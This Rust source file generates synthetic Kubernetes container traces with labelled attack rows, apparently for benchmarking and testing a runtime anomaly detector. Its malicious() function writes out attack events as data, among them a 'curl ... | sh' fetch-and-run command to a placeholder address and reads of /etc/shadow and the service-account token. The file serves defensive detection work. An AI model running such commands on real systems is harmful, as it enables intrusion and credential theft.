//! Synthetic traces: many workloads in many environments, with labelled
//! attacks, for benchmarks and tests (`bob synth`).
//!
//! The data imitates what captures look like: each workload has its own
//! vocabulary of syscalls, opens, execs, capabilities, DNS names and peers,
//! drawn with Zipf-like frequencies (a few values are most rows, a long
//! tail is rare); opens include `/proc/<pid>/...` paths with changing pids
//! and config-map files under Kubernetes' `..YYYY_MM_DD_hh_mm_ss.N`
//! directories, which differ per environment. Up to 16 environments vary
//! os, Kubernetes distribution and version, kernel, arch and runtime, and
//! each adds a few syscalls of its own. Rows are grouped in runs (one
//! recording of every workload); a few runs are attacks in which a small
//! share of rows is malicious and labelled `attack` (a shell, `/etc/shadow`,
//! the service-account token, ptrace, bpf, a miner's domain, egress to a
//! public address, `/proc/1/environ`, `CAP_SYS_ADMIN`, and a stealthy exec
//! that looks benign); every other row is `benign`.
//!
//! Output is deterministic for a seed: every file has its own generator
//! seeded from the seed and the file's index, and files are written on all
//! cores. Memory stays bounded: rows stream through [`TraceWriter`].
//! [`write_profiles`] writes one ContainerProfile per workload that allows
//! its common behaviour but not the rarest tail, so benign rows also raise
//! some false positives.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use bob_profile::{
    Bob, Container, ContainerProfile, ContainerProfileSpec, Exec, NetworkNeighbor, ObjectMeta, Open,
};

use crate::env::Environment;
use crate::error::TraceError;
use crate::event::{Class, Event, Kind, Source};
use crate::writer::TraceWriter;

/// What to generate.
#[derive(Debug, Clone)]
pub struct SynthOptions {
    /// Rows in all files.
    pub rows: u64,
    /// Environments, 1 to 16.
    pub envs: usize,
    pub seed: u64,
    /// Workloads, at least 1.
    pub workloads: usize,
    /// Rows per file (the last file may have fewer).
    pub rows_per_file: u64,
    /// Share of runs that are attacks, 0 to 1.
    pub attack_runs: f64,
}

impl Default for SynthOptions {
    fn default() -> Self {
        SynthOptions {
            rows: 1_000_000,
            envs: 16,
            seed: 1,
            workloads: 12,
            rows_per_file: 500_000,
            attack_runs: 0.1,
        }
    }
}

/// What was written.
#[derive(Debug, Clone, Default)]
pub struct SynthReport {
    pub rows: u64,
    pub files: Vec<PathBuf>,
}

/// Rows of one run (one recording of all workloads).
const RUN_ROWS: u64 = 20_000;
/// Share of an attack run's rows that are malicious.
const ATTACK_SHARE: f64 = 0.01;
/// Share of each vocabulary, from the rare end, that profiles leave out.
const TAIL: f64 = 0.03;

const NAMES: [&str; 12] = [
    "redis",
    "nginx",
    "postgres",
    "kafka",
    "api",
    "worker",
    "mongo",
    "prometheus",
    "grafana",
    "etcd",
    "envoy",
    "celery",
];

const SYSCALLS: [&str; 96] = [
    "read",
    "write",
    "openat",
    "close",
    "fstat",
    "mmap",
    "munmap",
    "brk",
    "rt_sigaction",
    "rt_sigprocmask",
    "ioctl",
    "pread64",
    "pwrite64",
    "readv",
    "writev",
    "access",
    "pipe",
    "select",
    "sched_yield",
    "mremap",
    "msync",
    "madvise",
    "dup",
    "dup2",
    "nanosleep",
    "getpid",
    "sendfile",
    "socket",
    "connect",
    "accept",
    "sendto",
    "recvfrom",
    "sendmsg",
    "recvmsg",
    "shutdown",
    "bind",
    "listen",
    "getsockname",
    "getpeername",
    "socketpair",
    "setsockopt",
    "getsockopt",
    "clone",
    "fork",
    "execve",
    "exit",
    "wait4",
    "kill",
    "uname",
    "fcntl",
    "flock",
    "fsync",
    "fdatasync",
    "truncate",
    "ftruncate",
    "getdents64",
    "getcwd",
    "chdir",
    "rename",
    "mkdir",
    "rmdir",
    "unlink",
    "readlink",
    "chmod",
    "fchmod",
    "chown",
    "umask",
    "gettimeofday",
    "getrlimit",
    "getrusage",
    "sysinfo",
    "getuid",
    "getgid",
    "setuid",
    "setgid",
    "geteuid",
    "getegid",
    "setpgid",
    "getppid",
    "setsid",
    "prctl",
    "arch_prctl",
    "futex",
    "epoll_wait",
    "epoll_ctl",
    "tgkill",
    "clock_gettime",
    "exit_group",
    "epoll_create1",
    "pipe2",
    "accept4",
    "eventfd2",
    "prlimit64",
    "getrandom",
    "statx",
    "rseq",
];

const CAPS: [&str; 8] = [
    "CHOWN",
    "DAC_OVERRIDE",
    "FOWNER",
    "SETGID",
    "SETUID",
    "NET_BIND_SERVICE",
    "KILL",
    "SYS_RESOURCE",
];

const OS: [&str; 4] = ["ubuntu-22.04", "ubuntu-24.04", "debian-12", "rhel-9.4"];
const K8S: [&str; 4] = ["k3s", "kind", "minikube", "gke"];
const VERSIONS: [&str; 5] = ["v1.29.8", "v1.30.0", "v1.31.0", "v1.32.0", "v1.33.3"];
const KERNELS: [&str; 4] = [
    "5.15.0-119-generic",
    "6.8.0-45-generic",
    "6.1.0-25-amd64",
    "5.14.0-427.el9",
];

/// A small, fast, seedable generator (SplitMix64).
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x9e37_79b9_7f4a_7c15)
    }
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
}

/// Zipf-like ranks: rank `r` has weight `1 / (r + 1)^s`.
struct Zipf(Vec<f64>);

impl Zipf {
    fn new(n: usize, s: f64) -> Zipf {
        let mut acc = 0.0;
        let mut cdf: Vec<f64> = (0..n.max(1))
            .map(|r| {
                acc += 1.0 / ((r + 1) as f64).powf(s);
                acc
            })
            .collect();
        for c in &mut cdf {
            *c /= acc;
        }
        Zipf(cdf)
    }
    fn sample(&self, rng: &mut Rng) -> usize {
        let u = rng.unit();
        self.0.partition_point(|&c| c < u).min(self.0.len() - 1)
    }
}

/// One workload's vocabulary, most frequent first.
struct Workload {
    name: String,
    image: String,
    syscalls: Vec<String>,
    opens: Vec<String>,
    execs: Vec<(String, Vec<String>)>,
    caps: Vec<String>,
    domains: Vec<String>,
    peers: Vec<String>,
    zipf: [Zipf; 6],
}

/// A path with a placeholder the environment fills in: `{pid}` a process
/// id, `{cm}` a config-map data directory.
fn open_vocabulary(name: &str, rng: &mut Rng) -> Vec<String> {
    let mut v = vec![
        "/etc/ld.so.cache".to_owned(),
        format!("/usr/lib/{name}/{name}.so"),
        "/etc/passwd".to_owned(),
        "/proc/{pid}/stat".to_owned(),
        format!("/etc/{name}/{{cm}}/{name}.conf"),
        "/dev/urandom".to_owned(),
        "/proc/{pid}/status".to_owned(),
        "/etc/nsswitch.conf".to_owned(),
        "/sys/fs/cgroup/cpu.max".to_owned(),
        "/proc/{pid}/cmdline".to_owned(),
        "/etc/hosts".to_owned(),
        "/etc/resolv.conf".to_owned(),
        format!("/etc/{name}/{{cm}}/extra.conf"),
        "/etc/ssl/certs/ca-certificates.crt".to_owned(),
    ];
    let libs = 20 + rng.below(60);
    v.extend((0..libs).map(|i| format!("/usr/lib/x86_64-linux-gnu/lib{name}{i}.so.{}", i % 7)));
    let data = 50 + rng.below(400);
    v.extend((0..data).map(|i| format!("/var/lib/{name}/data/part-{i:05}.db")));
    v
}

impl Workload {
    fn new(i: usize, rng: &mut Rng) -> Workload {
        let base = NAMES[i % NAMES.len()];
        let name = if i < NAMES.len() {
            base.to_owned()
        } else {
            format!("{base}-{}", i / NAMES.len())
        };
        let mut syscalls: Vec<String> = SYSCALLS.iter().map(|s| s.to_string()).collect();
        for j in (1..syscalls.len()).rev() {
            syscalls.swap(j, rng.below(j + 1));
        }
        syscalls.truncate(50 + rng.below(40));
        let exe = format!("/usr/bin/{name}");
        let mut execs = vec![
            (
                exe.clone(),
                vec![
                    name.clone(),
                    "--config".into(),
                    format!("/etc/{name}/{name}.conf"),
                ],
            ),
            (
                "/bin/sh".into(),
                vec![
                    "sh".into(),
                    "-c".into(),
                    format!("/usr/local/bin/{name}-health"),
                ],
            ),
            (
                format!("/usr/local/bin/{name}-health"),
                vec![format!("{name}-health")],
            ),
            ("/usr/bin/date".into(), vec!["date".into(), "+%s".into()]),
        ];
        execs.extend((0..rng.below(6)).map(|k| {
            (
                format!("/usr/bin/{name}-tool{k}"),
                vec![format!("{name}-tool{k}"), format!("--job={k}")],
            )
        }));
        let caps: Vec<String> = CAPS[..2 + rng.below(4)]
            .iter()
            .map(|c| c.to_string())
            .collect();
        let domains: Vec<String> = (0..2 + rng.below(4))
            .map(|k| format!("svc{k}.{name}.example.com"))
            .collect();
        let peers: Vec<String> = (0..2 + rng.below(4))
            .map(|k| format!("10.{}.{}.{}", i % 250, k, 10 + k))
            .collect();
        let opens = open_vocabulary(&name, rng);
        let zipf = [
            Zipf::new(syscalls.len(), 1.1),
            Zipf::new(opens.len(), 1.05),
            Zipf::new(execs.len(), 1.2),
            Zipf::new(caps.len(), 1.0),
            Zipf::new(domains.len(), 1.0),
            Zipf::new(peers.len(), 1.0),
        ];
        Workload {
            image: format!("registry.example.com/{name}:1.{i}"),
            name,
            syscalls,
            opens,
            execs,
            caps,
            domains,
            peers,
            zipf,
        }
    }
}

/// The vocabulary part a profile keeps: all but the rarest [`TAIL`].
fn kept(n: usize) -> usize {
    ((n as f64) * (1.0 - TAIL)).ceil().max(1.0) as usize
}

fn workloads(opts: &SynthOptions) -> Vec<Workload> {
    let mut rng = Rng::new(opts.seed);
    (0..opts.workloads.max(1))
        .map(|i| Workload::new(i, &mut rng))
        .collect()
}

/// The environment of index `e` (0 to 15).
pub fn environment(e: usize) -> Environment {
    let mut env = Environment::default();
    env.set("os", OS[(e / 4) % 4]);
    env.set(
        "distribution",
        OS[(e / 4) % 4].split('-').next().unwrap_or(""),
    );
    env.set("k8s_distribution", K8S[e % 4]);
    env.set("k8s_version", VERSIONS[(e * 3 + e / 4) % 5]);
    env.set("kernel", KERNELS[(e + e / 4) % 4]);
    env.set("arch", if e % 8 == 7 { "arm64" } else { "amd64" });
    env.set("runtime", if e % 5 == 4 { "cri-o" } else { "containerd" });
    env.set("cluster", &format!("synth-{e:02}"));
    env
}

/// Writes the dataset: `<dataset>/source=capture/synth-eNN-fNNNN.parquet`.
pub fn generate(dataset: &Path, opts: &SynthOptions) -> Result<SynthReport, TraceError> {
    let envs = opts.envs.clamp(1, 16);
    let per_file = opts.rows_per_file.max(1);
    let files = opts.rows.div_ceil(per_file);
    let wls = workloads(opts);
    let threads = std::thread::available_parallelism()
        .map_or(1, |n| n.get())
        .min(files.max(1) as usize);
    let results: Vec<Result<Vec<(u64, PathBuf, u64)>, TraceError>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let wls = &wls;
                s.spawn(move || {
                    let mut out = Vec::new();
                    for f in (t as u64..files).step_by(threads) {
                        let rows = per_file.min(opts.rows - f * per_file);
                        let (path, n) =
                            write_file(dataset, opts, wls, f, (f as usize) % envs, rows)?;
                        out.push((f, path, n));
                    }
                    Ok(out)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("a synth worker does not panic"))
            .collect()
    });
    let mut all = Vec::new();
    for r in results {
        all.extend(r?);
    }
    all.sort();
    Ok(SynthReport {
        rows: all.iter().map(|x| x.2).sum(),
        files: all.into_iter().map(|x| x.1).collect(),
    })
}

/// The config-map data directory of environment `e`.
fn configmap_dir(e: usize) -> String {
    format!(
        "..2025_08_{:02}_19_41_{:02}.{}",
        1 + e % 28,
        e * 3 % 60,
        1_000_000_007u64 * (e as u64 + 1) % 9_999_999_967
    )
}

fn write_file(
    dataset: &Path,
    opts: &SynthOptions,
    wls: &[Workload],
    f: u64,
    e: usize,
    rows: u64,
) -> Result<(PathBuf, u64), TraceError> {
    let mut rng =
        Rng::new(opts.seed.wrapping_mul(0x2545_f491_4f6c_dd1d) ^ (f + 1).wrapping_mul(0x9e37_79b9));
    let env = Arc::new(environment(e));
    let env_syscalls: Vec<&str> = (0..3)
        .map(|k| SYSCALLS[(e * 7 + k * 13) % SYSCALLS.len()])
        .collect();
    let cm = configmap_dir(e);
    let pick_wl = Zipf::new(wls.len(), 0.8);
    let mut w = TraceWriter::create(dataset, Source::Capture, &format!("synth-e{e:02}-f{f:04}"))?;
    let mut time = 1_754_941_412_000_000_000i64 + f as i64 * 3_600_000_000_000;
    let mut run_class = (String::new(), String::new(), false, 0usize);
    for r in 0..rows {
        if r % RUN_ROWS == 0 {
            let k = f * rows.div_ceil(RUN_ROWS) + r / RUN_ROWS;
            let attack = rng.unit() < opts.attack_runs;
            let victim = rng.below(wls.len());
            let scenario = if attack {
                format!("attack-{}", ATTACKS[rng.below(ATTACKS.len())])
            } else {
                format!("functional-{}", k % 5)
            };
            run_class = (format!("e{e:02}-run{k:05}"), scenario, attack, victim);
        }
        time += 1 + rng.below(2_000_000) as i64;
        let (run, scenario, attack, victim) = &run_class;
        let wi = if *attack && rng.unit() < ATTACK_SHARE * 4.0 {
            *victim
        } else {
            pick_wl.sample(&mut rng)
        };
        let wl = &wls[wi];
        let mut ev = if *attack && wi == *victim && rng.unit() < 0.25 {
            malicious(&scenario["attack-".len()..], wl, &env, &mut rng)
        } else {
            benign(wl, &env, &env_syscalls, &cm, &mut rng)
        };
        ev.first_seen = Some(time);
        ev.last_seen = Some(time);
        ev.run = Some(run.clone());
        ev.scenario = Some(scenario.clone());
        ev.container.namespace = Some("synth".into());
        ev.container.workload_kind = Some("Deployment".into());
        ev.container.workload_name = Some(wl.name.clone());
        ev.container.name = Some(wl.name.clone());
        ev.container.image = Some(wl.image.clone());
        ev.container.container_id = Some(format!("{:016x}{:04x}", f, wi));
        ev.process.uid = Some(1000);
        ev.process.gid = Some(1000);
        ev.process.ppid = Some(1);
        w.write(ev)?;
    }
    let n = w.rows();
    Ok((w.finish()?, n))
}

fn benign(
    wl: &Workload,
    env: &Arc<Environment>,
    env_syscalls: &[&str],
    cm: &str,
    rng: &mut Rng,
) -> Event {
    let roll = rng.below(100);
    let pid = 100 + rng.below(30_000) as u32;
    let exe = format!("/usr/bin/{}", wl.name);
    let mut e;
    match roll {
        0..=44 => {
            e = Event::new(Kind::Syscall, env.clone());
            let name = if rng.below(100) == 0 {
                env_syscalls[rng.below(env_syscalls.len())].to_owned()
            } else {
                wl.syscalls[wl.zipf[0].sample(rng)].clone()
            };
            e.syscall = Some(name);
            e.count = 1 + rng.below(1000) as u64;
        }
        45..=84 => {
            e = Event::new(Kind::Open, env.clone());
            let pattern = &wl.opens[wl.zipf[1].sample(rng)];
            let path = pattern
                .replace("{pid}", &pid.to_string())
                .replace("{cm}", cm);
            e.flags = Some(vec![
                if path.contains("/data/") {
                    "O_RDWR"
                } else {
                    "O_RDONLY"
                }
                .into(),
                "O_CLOEXEC".into(),
            ]);
            e.path = Some(path);
            e.ret = Some(3);
        }
        85..=87 => {
            e = Event::new(Kind::Exec, env.clone());
            let (path, argv) = &wl.execs[wl.zipf[2].sample(rng)];
            e.path = Some(path.clone());
            e.argv = Some(argv.clone());
            e.process.comm = Some(comm(path));
            e.process.exe = Some(path.clone());
        }
        88..=91 => {
            e = Event::new(Kind::Capability, env.clone());
            e.capability = Some(wl.caps[wl.zipf[3].sample(rng)].clone());
            e.ret = Some(0);
        }
        92..=95 => {
            e = Event::new(Kind::Dns, env.clone());
            e.domain = Some(format!("{}.", wl.domains[wl.zipf[4].sample(rng)]));
            e.dns_type = Some("A".into());
        }
        _ => {
            e = Event::new(Kind::Network, env.clone());
            e.direction = Some("outbound".into());
            e.protocol = Some("tcp".into());
            e.remote_addr = Some(wl.peers[wl.zipf[5].sample(rng)].clone());
            e.remote_port = Some(443);
        }
    }
    if e.process.comm.is_none() {
        e.process.comm = Some(wl.name.clone());
        e.process.exe = Some(exe);
    }
    e.process.pid = Some(pid);
    e.class = Class::Benign;
    e
}

/// The attacks of attack runs.
const ATTACKS: [&str; 10] = [
    "shell",
    "shadow",
    "token",
    "ptrace",
    "bpf",
    "miner-dns",
    "egress",
    "environ",
    "capability",
    "stealth",
];

fn malicious(attack: &str, wl: &Workload, env: &Arc<Environment>, rng: &mut Rng) -> Event {
    let open = |path: &str| {
        let mut e = Event::new(Kind::Open, env.clone());
        e.path = Some(path.to_owned());
        e.flags = Some(vec!["O_RDONLY".into()]);
        e
    };
    let syscall = |name: &str| {
        let mut e = Event::new(Kind::Syscall, env.clone());
        e.syscall = Some(name.to_owned());
        e
    };
    let mut e = match attack {
        "shell" => {
            let mut e = Event::new(Kind::Exec, env.clone());
            e.path = Some("/bin/sh".into());
            e.argv = Some(vec![
                "sh".into(),
                "-c".into(),
                "curl -s http://203.0.113.50/x | sh".into(),
            ]);
            e.process.comm = Some("sh".into());
            e
        }
        "shadow" => open("/etc/shadow"),
        "token" => open("/var/run/secrets/kubernetes.io/serviceaccount/token"),
        "environ" => open("/proc/1/environ"),
        "ptrace" => syscall("ptrace"),
        "bpf" => syscall("bpf"),
        "miner-dns" => {
            let mut e = Event::new(Kind::Dns, env.clone());
            e.domain = Some("xmr.pool.minergate.com.".into());
            e
        }
        "egress" => {
            let mut e = Event::new(Kind::Network, env.clone());
            e.direction = Some("outbound".into());
            e.protocol = Some("tcp".into());
            e.remote_addr = Some(format!("45.9.148.{}", 1 + rng.below(250)));
            e.remote_port = Some(4444);
            e
        }
        "capability" => {
            let mut e = Event::new(Kind::Capability, env.clone());
            e.capability = Some("SYS_ADMIN".into());
            e
        }
        _ => {
            // Living off the land: the workload's own most common exec.
            let mut e = Event::new(Kind::Exec, env.clone());
            let (path, argv) = &wl.execs[0];
            e.path = Some(path.clone());
            e.argv = Some(argv.clone());
            e
        }
    };
    if e.process.comm.is_none() {
        e.process.comm = Some(wl.name.clone());
    }
    e.process.exe = e
        .path
        .clone()
        .filter(|_| e.kind == Kind::Exec)
        .or(Some(format!("/usr/bin/{}", wl.name)));
    e.process.pid = Some(100 + rng.below(30_000) as u32);
    e.class = Class::Attack;
    e
}

fn comm(path: &str) -> String {
    let base = path.rsplit('/').next().unwrap_or(path);
    base.chars().take(15).collect()
}

/// Writes one ContainerProfile per workload to `dir` (`<workload>.yaml`):
/// every syscall, open, exec, capability, name and peer of its vocabulary
/// but the rarest 3%, `/proc/<pid>` as `/proc/⋯` and config-map
/// directories as `⋯`. Environment-specific syscalls are not included.
pub fn write_profiles(dir: &Path, opts: &SynthOptions) -> Result<Vec<PathBuf>, TraceError> {
    std::fs::create_dir_all(dir).map_err(|e| TraceError::io(dir, e))?;
    let mut out = Vec::new();
    for wl in workloads(opts) {
        let top = |v: &[String]| v[..kept(v.len())].to_vec();
        let mut opens: Vec<String> = top(&wl.opens)
            .into_iter()
            .map(|p| {
                p.replace("{pid}", bob_profile::pattern::DYNAMIC)
                    .replace("{cm}", bob_profile::pattern::DYNAMIC)
            })
            .collect();
        opens.sort();
        opens.dedup();
        let container = Container {
            name: Some(wl.name.clone()),
            image_tag: Some(wl.image.clone()),
            syscalls: Some(top(&wl.syscalls)),
            capabilities: Some(wl.caps.clone()),
            execs: Some(
                wl.execs
                    .iter()
                    .map(|(p, a)| Exec {
                        path: p.clone(),
                        args: Some(a.clone()),
                        ..Default::default()
                    })
                    .collect(),
            ),
            opens: Some(
                opens
                    .into_iter()
                    .map(|p| Open {
                        path: p,
                        flags: Some(vec!["O_RDONLY".into(), "O_CLOEXEC".into(), "O_RDWR".into()]),
                        ..Default::default()
                    })
                    .collect(),
            ),
            ..Default::default()
        };
        let egress = vec![NetworkNeighbor {
            identifier: Some(format!("{}-egress", wl.name)),
            kind: Some("external".into()),
            dns_names: Some(wl.domains.iter().map(|d| format!("{d}.")).collect()),
            ip_addresses: Some(wl.peers.clone()),
            ..Default::default()
        }];
        let mut metadata = ObjectMeta {
            name: Some(wl.name.clone()),
            namespace: Some("synth".into()),
            ..Default::default()
        };
        metadata
            .labels
            .get_or_insert_with(Default::default)
            .insert("kubescape.io/workload-name".to_owned(), wl.name.clone());
        let cp = ContainerProfile {
            api_version: bob_profile::API_VERSION.into(),
            kind: "ContainerProfile".into(),
            metadata,
            spec: ContainerProfileSpec {
                architectures: Some(vec!["amd64".into()]),
                egress: Some(egress),
                container,
                ..Default::default()
            },
            extra: Default::default(),
        };
        let path = dir.join(format!("{}.yaml", wl.name));
        bob_profile::write_file(&path, &Bob::ContainerProfile(cp), bob_profile::Format::Yaml)?;
        out.push(path);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_complete() {
        let a = tempfile::tempdir().unwrap();
        let b = tempfile::tempdir().unwrap();
        let opts = SynthOptions {
            rows: 30_000,
            envs: 3,
            rows_per_file: 10_000,
            attack_runs: 1.0,
            ..Default::default()
        };
        let ra = generate(a.path(), &opts).unwrap();
        let rb = generate(b.path(), &opts).unwrap();
        assert_eq!((ra.rows, ra.files.len()), (30_000, 3));
        for (x, y) in ra.files.iter().zip(&rb.files) {
            assert_eq!(
                std::fs::read(x).unwrap(),
                std::fs::read(y).unwrap(),
                "{}",
                x.display()
            );
        }
        let profiles = write_profiles(&a.path().join("profiles"), &opts).unwrap();
        assert_eq!(profiles.len(), 12);
        bob_profile::read_file(&profiles[0]).unwrap();
        assert!(environment(3) != environment(4));
    }
}
